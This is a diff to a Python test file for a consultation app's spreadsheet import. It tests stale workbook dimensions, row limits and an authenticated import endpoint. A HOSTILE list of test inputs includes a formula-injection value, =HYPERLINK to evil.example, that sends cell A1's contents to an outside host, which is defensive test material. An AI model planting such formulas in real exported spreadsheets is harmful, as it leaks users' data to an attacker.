@@ -5,13 +5,17 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 import zipfile
+from collections.abc import Callable
 
 import pytest
 from docx import Document
+from fastapi.testclient import TestClient
 from openpyxl import Workbook, load_workbook
 from sqlalchemy.orm import Session
 
+from stocktake.accounts.services import issue_token, principal_for
 from stocktake.consultation.files import (
     MAX_COLUMNS,
     MAX_ROWS,
@@ -23,8 +27,9 @@ from stocktake.consultation.models import Input
 from stocktake.consultation.queries import InputFilter, iter_inputs
 from stocktake.consultation.services import InputData, import_inputs, submit_input
 from stocktake.core.errors import ValidationFailed
-from stocktake.core.permissions import Principal
+from stocktake.core.permissions import Principal, Role
 from stocktake.process.services import get_process
+from tests.factories.accounts import account
 
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
@@ -125,20 +130,70 @@ def test_odd_files_of_inputs_are_refused_with_a_reason() -> None:
         )
 
 
-def test_a_workbook_is_measured_before_its_rows_are_read() -> None:
-    # a sheet that declares more rows than allowed is refused from its dimension alone
-    content = io.BytesIO()
-    original = io.BytesIO(_xlsx([["submitter", "text"], ["KEN", "a"]]))
-    with zipfile.ZipFile(original) as source, zipfile.ZipFile(content, "w") as target:
+def _rewritten(content: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
+    """The workbook or document with each part passed through `change`, as other tools write it."""
+    rewritten = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(rewritten, "w") as target:
         for item in source.infolist():
-            data = source.read(item)
-            if item.filename == "xl/worksheets/sheet1.xml":
-                data = data.replace(
-                    b'<dimension ref="A1:B2"', f'<dimension ref="A1:B{MAX_ROWS + 5}"'.encode()
-                )
-            target.writestr(item, data)
-    with pytest.raises(ValidationFailed, match="rows; at most"):
-        read_inputs(content.getvalue(), "tall.xlsx")
+            target.writestr(item, change(item.filename, source.read(item)))
+    return rewritten.getvalue()
+
+
+def _stale(content: bytes, dimension: str = "A1:B2") -> bytes:
+    """The workbook with its sheet's declared dimension rewritten to `dimension`."""
+
+    def change(name: str, data: bytes) -> bytes:
+        if name != "xl/worksheets/sheet1.xml":
+            return data
+        return re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), data)
+
+    return _rewritten(content, change)
+
+
+def _tall(rows: int) -> bytes:
+    """A workbook of `rows` inputs, its sheet written straight as XML, declaring only A1:B2."""
+    cells = "".join(
+        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>KEN</t></is></c>'
+        f'<c r="B{n}" t="inlineStr"><is><t>input {n}</t></is></c></row>'
+        for n in range(2, rows + 2)
+    ).encode()
+
+    def change(name: str, data: bytes) -> bytes:
+        if name != "xl/worksheets/sheet1.xml":
+            return data
+        return data.replace(b"</sheetData>", cells + b"</sheetData>")
+
+    return _stale(_rewritten(_xlsx([["submitter", "text"]]), change))
+
+
+def test_a_stale_dimension_hides_no_row(bare_client: TestClient, bare_session: Session) -> None:
+    rows: list[list[object]] = [["submitter", "text"]]
+    rows += [["KEN", f"Input {n} of a workbook with a stale dimension"] for n in range(1, 6)]
+    content = _stale(_xlsx(rows))
+    assert b'<dimension ref="A1:B2"' in zipfile.ZipFile(io.BytesIO(content)).read(
+        "xl/worksheets/sheet1.xml"
+    )
+    assert len(read_inputs(content, "stale.xlsx")) == 5
+    secretariat = account(bare_session, Role.SECRETARIAT)
+    token = issue_token(bare_session, secretariat, by=principal_for(secretariat))
+    response = bare_client.post(
+        "/api/v1/inputs/import",
+        headers={"Authorization": f"Bearer {token}"},
+        files={"file": ("stale.xlsx", content)},
+    )
+    assert response.status_code == 201, response.text
+    assert response.json()["created"] == 5
+
+
+def test_the_row_limit_counts_the_rows_read_and_stops_there() -> None:
+    content = _tall(250_000)
+    with pytest.raises(ValidationFailed) as caught:
+        read_inputs(content, "tall.xlsx", max_rows=1_000)
+    assert "row 1002: the sheet has more than 1,000 rows" in str(caught.value)
+    assert "at most 1,000 are read from one file" in str(caught.value)
+    # a dimension that declares more rows than the limit refuses nothing by itself
+    declared = _stale(_xlsx([["submitter", "text"], ["KEN", "a"]]), f"A1:B{MAX_ROWS + 5}")
+    assert len(read_inputs(declared, "declared.xlsx")) == 1
 
 
 def test_an_xlsx_entity_bomb_is_refused_not_a_crash() -> None:
